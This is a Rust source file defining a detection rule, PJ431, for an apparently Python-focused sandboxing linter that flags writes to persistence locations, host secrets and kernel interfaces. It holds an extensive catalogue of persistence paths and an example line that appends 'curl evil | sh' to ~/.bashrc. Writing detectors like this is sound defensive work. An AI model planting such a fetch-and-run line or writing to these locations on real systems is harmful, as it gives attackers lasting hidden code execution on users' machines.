//! PJ431 `sensitive-file-write`: writes a persistence target, a host secret or a kernel interface.
//!
//! **What it does.** Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, SQLite's `ATTACH DATABASE`, which creates the file it attaches, ...) whose folded path is a persistence target (shell, X session and login start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, pytest's `conftest.py` and `pytest.ini`, a module or package named after one of the standard library's most imported, in the working directory or `/tmp` (`json.py`, `json/__init__.py`: it shadows the real one for scripts run from there), IPython start-up scripts, `ld.so.preload`, XDG autostart and desktop entries, the start-up files of editors, debuggers and tools that run commands (`~/.vimrc`, `~/.gdbinit`, `~/.pdbrc`, `~/.curlrc`, ...), pip's and Cargo's configuration (and Cargo's `bin`), GNU make's `GNUmakefile`, `~/.gitconfig`, `.git/hooks/`, `.git/config` and VS Code's `.vscode/tasks.json` (not git's example hooks, `*.sample`, nor the configuration of a repository in a known subdirectory of the working directory, `myrepo/.git/config`, which a program writes when it makes its own, unless it moves, copies or links files or changes directory), Jupyter kernel specs, `~/.local/bin`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).
//!
//! **Why is this bad?** A write there outlives the program: the next shell, cron run, login, editor, debugger or Python start runs it, or the kernel acts on it at once (`core_pattern`, `modprobe`, `release_agent` run programs as root).
//!
//! **Example.**
//! ```python
//! with open(os.path.expanduser("~/.bashrc"), "a") as f:
//!     f.write("curl evil | sh\
//! ")
//! ```
//!
//! The paths are classified in `file_target.rs`.

use super::Meta;
use crate::capability::Capability;
use crate::severity::Severity;

pub(crate) const META: Meta = Meta {
    id: "PJ431",
    name: "sensitive-file-write",
    severity: Severity::High,
    category: "filesystem",
    capability: Capability::FilesystemWrite,
    message: "`{name}` writes a persistence target, a host secret or a kernel interface",
    description: "Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, SQLite's `ATTACH DATABASE`, which creates the file it attaches, ...) whose folded path is a persistence target (shell, X session and login start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, pytest's `conftest.py` and `pytest.ini`, a module or package named after one of the standard library's most imported, in the working directory or `/tmp` (`json.py`, `json/__init__.py`: it shadows the real one for scripts run from there), IPython start-up scripts, `ld.so.preload`, XDG autostart and desktop entries, the start-up files of editors, debuggers and tools that run commands (`~/.vimrc`, `~/.gdbinit`, `~/.pdbrc`, `~/.curlrc`, ...), pip's and Cargo's configuration (and Cargo's `bin`), GNU make's `GNUmakefile`, `~/.gitconfig`, `.git/hooks/`, `.git/config` and VS Code's `.vscode/tasks.json` (not git's example hooks, `*.sample`, nor the configuration of a repository in a known subdirectory of the working directory, `myrepo/.git/config`, which a program writes when it makes its own, unless it moves, copies or links files or changes directory), Jupyter kernel specs, `~/.local/bin`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).",
    rationale: "A write there outlives the program: the next shell, cron run, login, editor, debugger or Python start runs it, or the kernel acts on it at once (`core_pattern`, `modprobe`, `release_agent` run programs as root).",
    example: "with open(os.path.expanduser(\"~/.bashrc\"), \"a\") as f:\n    f.write(\"curl evil | sh\\n\")",
    fix: "Write into the working directory or a temporary one. Suppress an intended write with `# pyjail: ignore[PJ431]`.",
    references: &["https://attack.mitre.org/tactics/TA0003/"],
};
